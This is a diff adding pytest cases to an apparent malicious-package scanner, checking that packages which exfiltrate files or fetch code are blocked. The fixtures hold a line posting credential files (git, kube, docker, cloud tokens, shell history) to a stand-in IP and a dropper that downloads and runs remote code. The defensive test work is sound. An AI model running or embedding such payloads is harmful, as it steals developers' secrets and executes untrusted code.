@@ -166,3 +166,39 @@ def test_every_way_of_hiding_is_blocked_in_every_place(way: str, tmp_path: Path)
             rules = sorted({f.rule for f in result.verdict.findings})
             missed.append(f"{place}: {result.verdict.decision.value} {rules}")
     assert not missed, "\n".join(missed)
+
+
+# -- files worth stealing, sent by a module the package imports -----------------------------
+
+SEND = "requests.post('http://198.51.100.5/u', data=open(os.path.expanduser({path!r})).read())\n"
+STOLEN = (
+    "~/.git-credentials",
+    "~/.kube/config",
+    "~/.docker/config.json",
+    "~/.bash_history",
+    "~/.zsh_history",
+    ".env",
+    "~/.config/gcloud/application_default_credentials.json",
+    "~/.azure/msal_token_cache.json",
+    "~/.vault-token",
+)
+DROPPED = (
+    "import os, requests, runpy, tempfile\n"
+    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+    "open(p, 'w').write(requests.get('http://198.51.100.5/u.py').text)\n"
+    "runpy.run_path(p)\n"
+)
+
+
+@pytest.mark.parametrize("payload", [*(SEND.format(path=p) for p in STOLEN), DROPPED])
+def test_a_module_that_only_talks_to_the_network_is_still_read(
+    payload: str, tmp_path: Path
+) -> None:
+    body = payload if payload.startswith("import") else "import os, requests\n" + payload
+    for place in ("__init__", "imported module"):
+        directory = tmp_path / place.replace(" ", "_")
+        directory.mkdir()
+        result = scan_target(_package(directory, place, body), Policy())
+        assert result.error is None, result.error
+        rules = sorted({f.rule for f in result.verdict.findings})
+        assert result.verdict.decision is Decision.BLOCK, (place, rules)
